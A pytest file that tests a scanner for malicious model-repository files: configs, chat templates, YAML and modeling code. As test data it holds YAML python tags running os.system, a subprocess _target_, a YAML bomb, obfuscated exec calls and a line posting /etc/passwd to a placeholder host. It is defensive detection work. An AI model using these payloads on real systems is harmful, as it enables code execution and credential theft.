"""Model-repository configs and code: JSON (auto_map, chat_template, Keras shape, _target_), YAML tags,
Python files (ast only), .jinja templates; and the YAML sniff."""
from __future__ import annotations

import json
import sys

import pytest
import yaml

from tests.fixtures import make_formats as mf
from modelscreen.engine import scan_bytes
from modelscreen.engine.sniff import sniff


def findings(report, rule):
    return [f for f in report.findings if f.rule_id == rule]


@pytest.fixture
def canary(tmp_path):
    path = tmp_path / "canary"
    yield str(path)
    assert not path.exists(), "a payload ran"


# ----------------------------------------------------------------------------- JSON
def test_plain_transformers_config_is_clean():
    [report] = scan_bytes(mf.transformers_config(), "config.json")
    assert report.format == "json" and report.verdict.value == "clean" and not report.findings


@pytest.mark.parametrize("auto_map,files", [
    ({"AutoConfig": "configuration_tiny.TinyConfig", "AutoModelForCausalLM": "modeling_tiny.Tiny"},
     ["configuration_tiny.py", "modeling_tiny.py"]),
    ({"AutoModel": "someone/other-repo--modeling_x.X"}, ["modeling_x.py of repository someone/other-repo"]),
    ({"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}, ["tokenization_tiny.py"]),
])
def test_auto_map_is_remote_code(auto_map, files):
    [report] = scan_bytes(mf.transformers_config(auto_map), "config.json")
    [hit] = findings(report, "TRANSFORMERS-REMOTE-CODE")
    assert hit.severity.value == "medium" and hit.location == f"auto_map.{next(iter(auto_map))}"
    assert all(f in hit.detail for f in files)


def test_tokenizer_config_with_real_template_list_is_clean():
    tmpl = [{"name": "default", "template": mf.LLAMA31_TOOLS}, {"name": "tool_use", "template": mf.QWEN3}]
    [report] = scan_bytes(mf.tokenizer_config(tmpl), "tokenizer_config.json")
    assert report.verdict.value == "clean", report.findings


@pytest.mark.parametrize("name", sorted(mf.MALICIOUS_TEMPLATES))
def test_tokenizer_config_injection(name):
    [report] = scan_bytes(mf.tokenizer_config(mf.MALICIOUS_TEMPLATES[name]), "tokenizer_config.json")
    crit = [f for f in report.findings if f.analyzer == "config" and f.severity.value == "critical"]
    assert crit and all(f.location.startswith("chat_template line") for f in crit)
    assert report.verdict.value == "malicious"


def test_named_template_location_in_tokenizer_config():
    tmpl = [{"name": "default", "template": mf.CHATML},
            {"name": "rag", "template": mf.MALICIOUS_TEMPLATES["item-dunder"]}]
    [report] = scan_bytes(mf.tokenizer_config(tmpl), "tokenizer_config.json")
    assert {f.location for f in report.findings if f.analyzer == "config"} == {"chat_template[rag] line 1"}


def test_chat_template_json_and_jinja_file():
    data = json.dumps({"chat_template": mf.MALICIOUS_TEMPLATES["namespace-init"]}).encode()
    [report] = scan_bytes(data, "chat_template.json")
    assert report.verdict.value == "malicious"
    [report] = scan_bytes(mf.MALICIOUS_TEMPLATES["self-context"].encode(), "chat_template.jinja")
    assert report.format == "text" and report.verdict.value == "malicious"
    assert all(f.location.startswith("chat_template.jinja line") for f in report.findings if f.analyzer == "template")
    [report] = scan_bytes(mf.QWEN3.encode(), "chat_template.jinja")
    assert report.verdict.value == "clean", report.findings


def test_hydra_target_in_json():
    data = json.dumps({"trainer": {"callback": {"_target_": "subprocess.run", "args": ["id"]}}}).encode()
    [report] = scan_bytes(data, "config.json")
    [hit] = findings(report, "CONFIG-DANGEROUS-TARGET")
    assert hit.severity.value == "high" and hit.location == "trainer.callback"


def test_diffusers_custom_component():
    data = json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
                       "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": ["my_pipeline", "Checker"]})
    [report] = scan_bytes(data.encode(), "model_index.json")
    [hit] = findings(report, "DIFFUSERS-CUSTOM-COMPONENT")
    assert hit.location == "safety_checker" and hit.severity.value == "medium"


def test_invalid_json_is_low():
    [report] = scan_bytes(b'{"a": 1,, }', "config.json")
    assert {f.severity.value for f in findings(report, "CONFIG-INVALID-JSON")} <= {"low"}


# ----------------------------------------------------------------------------- YAML
def test_benign_yaml_is_sniffed_and_clean():
    assert sniff(mf.BENIGN_YAML, b"", len(mf.BENIGN_YAML)) == "yaml"
    [report] = scan_bytes(mf.BENIGN_YAML, "train.yaml")
    assert report.format == "yaml" and report.verdict.value == "clean", report.findings


def test_python_tags_are_critical_with_line(canary):
    [report] = scan_bytes(mf.malicious_yaml(canary), "pipeline.yaml")
    hits = {(f.location, f.severity.value) for f in findings(report, "YAML-PYTHON-TAG")}
    assert hits == {("line 3 (model.hook)", "critical"), ("line 4 (model.other)", "critical")}


@pytest.mark.parametrize("doc", [
    "!!python/object/apply:os.system ['touch {c}']\n",
    "- !!python/object/new:subprocess.Popen [['touch', '{c}']]\n",
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['touch {c}']\n",
    "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['touch {c}']\n",
    "a: !!python/module:os\n",
    "key: [1, 2\nb: !!python/name:os.system\n",  # broken YAML: tags before the error still count
])
def test_python_tag_variants(doc, canary):
    data = doc.format(c=canary).encode()
    [report] = scan_bytes(data, "x.yml")
    assert findings(report, "YAML-PYTHON-TAG"), report.findings
    assert report.verdict.value == "malicious"


def test_python_tag_in_a_text_file_is_still_found(canary):
    data = f"notes\n\nhook: !!python/object/apply:os.system ['touch {canary}']\n".encode()
    [report] = scan_bytes(data, "notes.txt")
    assert findings(report, "YAML-PYTHON-TAG")


def test_custom_tag_is_low_and_billion_laughs_is_not_expanded():
    [report] = scan_bytes(b"a: !include other.yaml\nb: 1\n", "c.yaml")
    assert {f.severity.value for f in findings(report, "YAML-CUSTOM-TAG")} == {"low"}
    lol = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(9))
    [report] = scan_bytes(lol.encode(), "lol.yaml")
    assert report.error is None


def test_hydra_target_in_yaml(canary):
    [report] = scan_bytes(mf.hydra_yaml(canary), "config.yaml")
    [hit] = findings(report, "CONFIG-DANGEROUS-TARGET")
    assert hit.severity.value == "high" and hit.location == "line 2"


def test_yaml_is_never_constructed(monkeypatch, canary):
    def boom(*a, **k):
        raise AssertionError("YAML was constructed")

    for name in ("load", "unsafe_load", "full_load", "safe_load", "load_all"):
        monkeypatch.setattr(yaml, name, boom)
    monkeypatch.setattr(yaml.constructor.BaseConstructor, "construct_document", boom)
    [report] = scan_bytes(mf.malicious_yaml(canary), "pipeline.yaml")
    assert findings(report, "YAML-PYTHON-TAG")


@pytest.mark.parametrize("text,fmt", [
    (b"---\nlicense: mit\ntags:\n- text-generation\n---\n# Tiny model\n\nThis model does things.\nIt is small.\n"
     b"Use it: carefully.\n\n```python\nprint(1)\n```\n", "text"),
    (b"Some notes about the model\n", "text"),
    (b"Author: someone\nDate: today\n", "yaml"),
    (b"import os\n\nclass A:\n    x: int = 1\n    y: int = 2\n\ndef f():\n    return 1\n", "text"),
    (b"%YAML 1.2\n---\na: 1\n", "yaml"),
])
def test_yaml_sniff(text, fmt):
    assert sniff(text, b"", len(text)) == fmt


def test_model_card_stays_quiet():
    card = b"---\nlicense: apache-2.0\nlanguage:\n- en\n---\n# Model\n\nA description: with colons.\n"
    [report] = scan_bytes(card, "README.md")
    assert report.verdict.value == "clean" and not report.findings


# ----------------------------------------------------------------------------- Python code
def test_benign_modeling_file_is_info_only():
    [report] = scan_bytes(mf.BENIGN_MODELING, "modeling_tiny.py")
    assert [(f.rule_id, f.severity.value, f.location) for f in report.findings] == [
        ("CODE-FILE", "info", "modeling_tiny.py")]


def test_malicious_modeling_file(canary):
    [report] = scan_bytes(mf.malicious_modeling(canary), "modeling_tiny.py")
    got = {(f.rule_id, f.severity.value, f.location) for f in report.findings if f.analyzer == "code"}
    assert ("CODE-EXEC-ENCODED", "critical", "modeling_tiny.py line 7") in got
    assert ("CODE-DANGEROUS-CALL", "high", "modeling_tiny.py line 12") in got  # sp.run via alias
    assert ("CODE-DANGEROUS-CALL", "high", "modeling_tiny.py line 13") in got  # from os import system
    assert ("CODE-DANGEROUS-CALL", "high", "modeling_tiny.py line 14") in got  # __import__("os").popen
    enc = [f for f in report.findings if f.rule_id == "CODE-EXEC-ENCODED"][0]
    assert "import time" in enc.detail and "b64decode" in enc.evidence


@pytest.mark.parametrize("src,rule,sev", [
    ("import socket\ns = socket.socket()\n", "CODE-DANGEROUS-CALL", "high"),
    ("import requests\nrequests.post('http://192.0.2.1', data=open('/etc/passwd').read())\n",
     "CODE-DANGEROUS-CALL", "high"),
    ("import os\nf = getattr(os, 'sys' + 'tem')\n", "CODE-DYNAMIC-LOOKUP", "high"),
    ("import importlib\nm = importlib.import_module(name)\n", "CODE-DYNAMIC-IMPORT", "medium"),
    ("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n", "CODE-EXEC-ENCODED", "critical"),
    ("import ctypes\nctypes.CDLL('libx.so')\n", "CODE-DANGEROUS-CALL", "high"),
    ("def f(:\n", "CODE-SYNTAX-ERROR", "low"),
])
def test_code_heuristics(src, rule, sev):
    [report] = scan_bytes(src.encode(), "extra_code.py")
    hit = findings(report, rule)
    assert hit and hit[0].severity.value == sev, report.findings


def test_code_is_never_executed(monkeypatch, canary):
    import builtins

    def boom(*a, **k):
        raise AssertionError("code was compiled or run")

    monkeypatch.setattr(builtins, "exec", boom)
    monkeypatch.setattr(builtins, "eval", boom)
    [report] = scan_bytes(mf.malicious_modeling(canary), "modeling_tiny.py")
    assert findings(report, "CODE-EXEC-ENCODED")
    assert "modeling_tiny" not in sys.modules


def test_shebang_script_without_suffix():
    [report] = scan_bytes(b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", "run")
    assert findings(report, "CODE-DANGEROUS-CALL")


def test_fixture_generator_writes_scannable_files(tmp_path, canary):
    from modelscreen.engine import scan_path

    for p in mf.write_all(tmp_path, canary):
        reports = scan_path(p)
        verdict = reports[0].verdict.value
        if "benign" in p.parts:
            assert verdict == "clean", (p, reports[0].findings)
        else:
            assert verdict in ("suspicious", "malicious"), p
            assert all(r.error is None for r in reports)
